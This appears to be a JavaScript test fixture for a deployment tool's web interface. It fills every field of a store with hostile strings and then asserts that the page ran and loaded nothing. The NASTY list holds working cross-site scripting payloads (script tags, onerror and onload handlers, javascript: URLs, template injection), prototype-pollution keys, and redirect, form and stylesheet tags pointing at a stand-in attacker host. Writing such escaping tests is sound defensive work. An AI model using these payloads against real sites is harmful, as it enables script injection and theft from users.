// A store by somebody who means harm, or whose texts are from all over the world: strings that would
// run, navigate, load or break a layout if a page took them for more than text, in every field that a
// store can hold and every name that a ref can have.
//
//     const store = await hostile();
//     for (const text of NASTY) …           // to look for on a screen, as text
//     await assertHarmless(page);           // nothing has run, nothing was made of them
//
// Whatever of it runs sets `window.__ran`, or asks for something at https://evil.example, which the
// harness of open.mjs reports too.

import assert from "node:assert/strict";
import { cached } from "./workshop.mjs";
import { link, raw, written } from "./written.mjs";

const RUN = "window.__ran=(window.__ran||0)+1";

// As text in a body. A ref cannot have line breaks, backslashes or control characters; see NAMES.
export const NASTY = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `"><script src=https://evil.example/x.js></script>`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}" tabindex="1`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://github.com/`,
  `data:text/html,<script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">approve</a>`,
  `<style>*{background:url(https://evil.example/css)}</style>`,
  `<link rel=stylesheet href=https://evil.example/a.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><button>Sign in</button></form>`,
  `</title></textarea></script></style><img src=https://evil.example/i>`,
  `<!--`, `]]>`, `{{constructor.constructor('${RUN}')()}}`, "${" + RUN + "}", "%3Cscript%3E", "&lt;b&gt;&amp;amp;",
  "__proto__", "constructor", "hasOwnProperty", "toString",
  "\u202eevitanretla\u202c and \u2066back\u2069",
  "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea 123",
  "Z\u0361\u034f\u0489a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f\u0310\u0311lgo",
  "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳 𝕌𝕟𝕚𝕔𝕠𝕕𝕖 ﷽ ꧅ 𒐫",
  "zero\u200bwidth\u200d\ufeff \u00a0 \u2028\u2029 \u0000\u0001\u001b[31m\u0007\u007f\u0085",
  "\ufffe\uffff",
  `${"w".repeat(10_000)}`,
  `${"word ".repeat(20_000)}`,
  `first\n\n\r\n\tlast   with   spaces`,
];

// What can be a folder's name in a ref: no control characters, no backslash, no slash.
const printable = (text) => text.replace(/[\u0000-\u001f\u007f-\u009f\\/#@+]/g, "_").slice(0, 120).trim();
const names = (texts) => [...new Set(texts.map(printable))].filter((name) => name && !/^\.+$|^-$/.test(name));
export const FOLDERS = names(NASTY);

// What can be a task, or custom state: no `=` either. `alert` is noticed as a dialog.
export const NAMES = names(NASTY.map((text) => text.replaceAll(RUN, "alert(1)").replaceAll("=", ":")));

export const HOSTILE_REPO = `evil.example/<img src=x onerror='${RUN}'>`;

const TIME = "2026-01-05T10:00:00Z";
const COMMIT = "c0ffee".padEnd(40, "0");

export function hostile() {
  return cached("hostile", [import.meta.url, new URL("./written.mjs", import.meta.url).href], () => written(documents()));
}

export function documents() {
  const state = {};
  const intent = {};
  const environments = ["prod", "qa"];
  const attributes = Object.fromEntries(NASTY.map((text, i) => [i % 2 ? text : `key ${i}`, text]));
  for (const name of environments) {
    state[`@/environment/${name}`] = { name, attributes };
    intent[`@/environment/${name}`] = { name, attributes: { ...attributes, "key 0": "changed" } };
  }
  // Every name as custom state, every text as its value.
  NAMES.forEach((name, i) => {
    state[`@/custom/${name}`] = NASTY[i % NASTY.length];
    intent[`@/custom/${name}`] = { [NASTY[(i + 1) % NASTY.length]]: NASTY, deep: [[[NASTY[i % NASTY.length]]]] };
  });
  intent["@/custom/freeze"] = state["@/custom/freeze"] = { reason: NASTY.join("\n"), until: NASTY[0] };
  intent["@/custom/freeze/prod"] = state["@/custom/freeze/prod"] = { reason: NASTY[1], until: "9999-99-99T99:99:99Z" };

  // One package whose every field is a text from the list, and one for each name.
  everything(state, intent, "github.com/acme/shop/-/release.ocu.star", NASTY);
  FOLDERS.slice(0, 17).forEach((name, i) => small(state, intent, `${HOSTILE_REPO}/-/${name}/release.ocu.star`, NASTY[i]));
  // Documents that are none.
  const odd = "github.com/acme/shop/-/odd.ocu.star";
  state[`${odd}/@r1`] = raw("<html><script>1</script>");
  state[`${odd}/@r2`] = raw(`{"kind":"ref","body_type":"release.ReleaseInfo","body":${"[".repeat(200)}${"]".repeat(200)}}`);
  state[`${odd}/@r3`] = { commit: 5, package: { phases: "none", functions: null } };
  state[`${odd}/@r18446744073709551616`] = { commit: NASTY[0], package: { functions: {}, phases: [] } };
  state[`${odd}/@r4`] = { commit: NASTY[0], package: { functions: {}, phases: [{ name: NASTY[1], tasks: [{ task: null }, { soup: 1 }, 7] }] } };
  state[`${odd}/@/deploy/prod`] = link(`${odd}/@/deploy/qa`);
  state[`${odd}/@/deploy/qa`] = link(`${odd}/@/deploy/prod`);
  state[`${odd}/@v1`] = link("not/a/ref/../..");
  state["@/environment/none"] = raw("");
  // Half of a surrogate pair is JSON to some and none to others.
  state["@/custom/surrogate"] = raw('{"kind":"ref","body_type":"string","body":"half \\ud83d"}');
  state["@/custom/huge"] = { n: 123456789012345680, e: 1e308, list: Array.from({ length: 5000 }, (_, i) => i), text: "\u{1f600}".repeat(5000) };
  return { state, intent };
}

// A release with a task and deployments in all statuses, made of these texts.
function everything(state, intent, at, texts) {
  const release = `${at}/@r1`;
  const fn = { name: texts[0], pos: `${texts[1]}:1:1` };
  const inputs = Object.fromEntries(texts.slice(0, 20).map((text, i) => [`input${i}`, { ref: `./-/${texts[i % 3]}`, default: text, value: text }]));
  const names = NAMES.slice(0, 8);
  state[release] = {
    commit: COMMIT,
    package: {
      functions: { [`${texts[0]}/${texts[1]}`]: { function: fn } },
      phases: [
        ...texts.slice(0, 5).map((name) => ({ name, tasks: [] })),
        { name: texts[2], tasks: names.map((name) => ({ task: { name, inputs, fn } })) },
        { name: texts[6], tasks: ["prod", "qa"].map((environment) => ({ deploy: { environment, up: fn, down: fn, inputs } })) },
      ],
    },
  };
  state[`${release}/commit/${COMMIT}`] = { time: TIME, subject: texts.slice(0, 25).join(" "), author: texts[4] };
  state[`${at}/@1.0.0`] = link(release);
  const statuses = ["pending", "running", "paused", "complete", "failed", "cancelled", "failed_retried", `x<b>y`];
  const run = (task, i) => {
    const status = statuses[i % statuses.length];
    const type = task.includes("/deploy/") ? "up" : "task";
    const output = Object.fromEntries(texts.map((text, k) => [k % 2 ? text : `out${k}`, text]));
    const dependencies = texts.slice(0, 6).map((text) => `./-/${text.replace(/[\n\r\\]/g, "")}/@/task/x`);
    state[task] = { run_ref: `${task}/1`, type, release, input: inputs, output };
    state[`${task}/1`] = { type, release, output, watch_files: texts, functions: [{ fn, inputs, dependencies }] };
    state[`${task}/1/status/${status}`] = { time: i % 3 ? TIME : texts[0], owner: { host: texts[1], pid: 1, id: texts[2] }, heartbeat: TIME };
    state[`${task}/1/logs`] = texts.map((message, stream) => ({
      timestamp: stream % 5 ? TIME : texts[3],
      message: `\u001b[3${stream % 8}m${message}\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007\u001b[`,
      attributes: { filename: texts[0], line: texts[1], col: "1", thread: texts[2] },
      stream: stream % 4,
    }));
  };
  names.forEach((name, i) => run(`${release}/task/${name}`, i));
  run(`${release}/deploy/prod`, 3);
  run(`${release}/deploy/qa`, 4);
  for (const name of ["prod", "qa"]) {
    state[`${at}/@/deploy/${name}`] = link(`${release}/deploy/${name}`);
    intent[`${at}/@/deploy/${name}`] = { release, input: inputs };
  }
  for (const name of NAMES.slice(0, 10)) {
    state[`${at}/@/custom/${name}`] = texts;
    intent[`${release}/custom/${name}`] = texts;
  }
}

function small(state, intent, at, text) {
  const release = `${at}/@r1`;
  const fn = { name: "up", pos: "release.ocu.star:1:1" };
  state[release] = { commit: COMMIT, package: { functions: {}, phases: [{ name: text, tasks: [{ deploy: { environment: "prod", up: fn, down: fn, inputs: {} } }] }] } };
  state[`${release}/commit/${COMMIT}`] = { time: TIME, subject: text, author: text };
  const task = `${release}/deploy/prod`;
  state[task] = { run_ref: `${task}/1`, type: "up", release, input: {}, output: null };
  state[`${task}/1`] = { type: "up", release, output: null, watch_files: null, functions: [{ fn, inputs: {} }] };
  state[`${task}/1/status/complete`] = { time: TIME };
  state[`${at}/@/deploy/prod`] = link(task);
  intent[`${at}/@/deploy/prod`] = { release, input: {} };
}

// Nothing of the texts has run, and no element has come of them.
export async function assertHarmless(page) {
  const found = await page.evaluate(() => {
    const bad = [];
    if (window.__ran !== undefined) bad.push(`ran ${window.__ran} times`);
    for (const element of document.querySelectorAll("*")) {
      const name = element.localName;
      for (const { name: attribute, value } of element.attributes) {
        if (/^on/i.test(attribute)) bad.push(`<${name} ${attribute}>`);
        if (["href", "src", "action", "formaction", "xlink:href", "srcdoc"].includes(attribute)) {
          const url = new URL(value, document.baseURI);
          if (!["http:", "https:", "blob:"].includes(url.protocol)) bad.push(`<${name} ${attribute}="${value.slice(0, 80)}">`);
          const loads = name !== "a" && url.origin !== location.origin;
          if (loads && url.protocol !== "blob:") bad.push(`<${name} ${attribute}="${value.slice(0, 80)}"> loads`);
        }
      }
      if (["iframe", "object", "embed", "base", "frame"].includes(name)) bad.push(`<${name}>`);
      if (name === "script" && !element.src) bad.push("an inline <script>");
      if (name === "meta" && /refresh/i.test(element.httpEquiv)) bad.push("<meta refresh>");
    }
    if (Object.prototype.__ran !== undefined || ({}).x !== undefined) bad.push("the prototype of objects was changed");
    return bad;
  });
  assert.deepEqual(found, [], page.url());
}
